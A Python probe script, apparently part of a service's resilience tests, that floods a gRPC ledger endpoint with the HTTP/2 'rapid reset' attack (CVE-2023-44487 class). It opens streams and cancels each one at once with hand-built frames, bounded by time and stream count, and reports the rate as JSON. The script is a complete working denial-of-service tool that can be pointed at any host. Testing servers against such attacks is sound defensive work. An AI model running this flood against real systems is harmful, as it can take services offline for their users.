#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487 class): on one connection, open a stream with HEADERS for
/ledger.v1.Ledger/Balance and cancel it at once with RST_STREAM, again and again.

Bounded: stops after --seconds or --max_streams, whichever comes first. Frames are built by hand
(the header block is HPACK-encoded once by python3-hpack, which python3-h2 brings) so that one
Python process sends as fast as a real attacker's loop.

Usage: rapid_reset.py --port PORT [--host 127.0.0.1] [--seconds 4] [--max_streams 5000000]
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

import hpack

sys.path.insert(0, __import__("os").path.dirname(__file__))
from h2grpc import BALANCE_PATH, request_headers  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS = 0x4
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--max_streams", type=int, default=5_000_000)
    parser.add_argument("--batch", type=int, default=200, help="streams per write")
    args = parser.parse_args()

    block = hpack.Encoder().encode(request_headers(BALANCE_PATH, f"{args.host}:{args.port}"))
    sock = socket.create_connection((args.host, args.port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 0x1, 0))
    sock.setblocking(False)
    stream_id, sent, received, closed_by = 1, 0, 0, ""
    start = time.monotonic()
    end = start + args.seconds
    pending = b""
    while time.monotonic() < end and sent < args.max_streams and not closed_by:
        if not pending:
            chunk = bytearray()
            for _ in range(min(args.batch, args.max_streams - sent)):
                chunk += frame(HEADERS, END_HEADERS, stream_id, block)
                chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                stream_id += 2
                sent += 1
                if stream_id >= 2**31:
                    break
            pending = bytes(chunk)
        readable, writable, _ = select.select([sock], [sock], [], 0.05)
        if readable:
            try:
                data = sock.recv(1 << 20)
                if not data:
                    closed_by = "server closed the connection"
                received += len(data)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as error:
                closed_by = f"server reset the connection ({error})"
        if writable and pending:
            try:
                pending = pending[sock.send(pending):]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as error:
                closed_by = f"send failed ({error})"
        if stream_id >= 2**31:
            closed_by = "stream ids exhausted"
    sock.close()
    elapsed = time.monotonic() - start
    print(json.dumps({"probe": "rapid_reset", "streams_sent": sent, "seconds": round(elapsed, 2),
                      "streams_per_second": round(sent / elapsed), "bytes_received": received,
                      "ended_by": closed_by or "time or count bound"}))


if __name__ == "__main__":
    main()
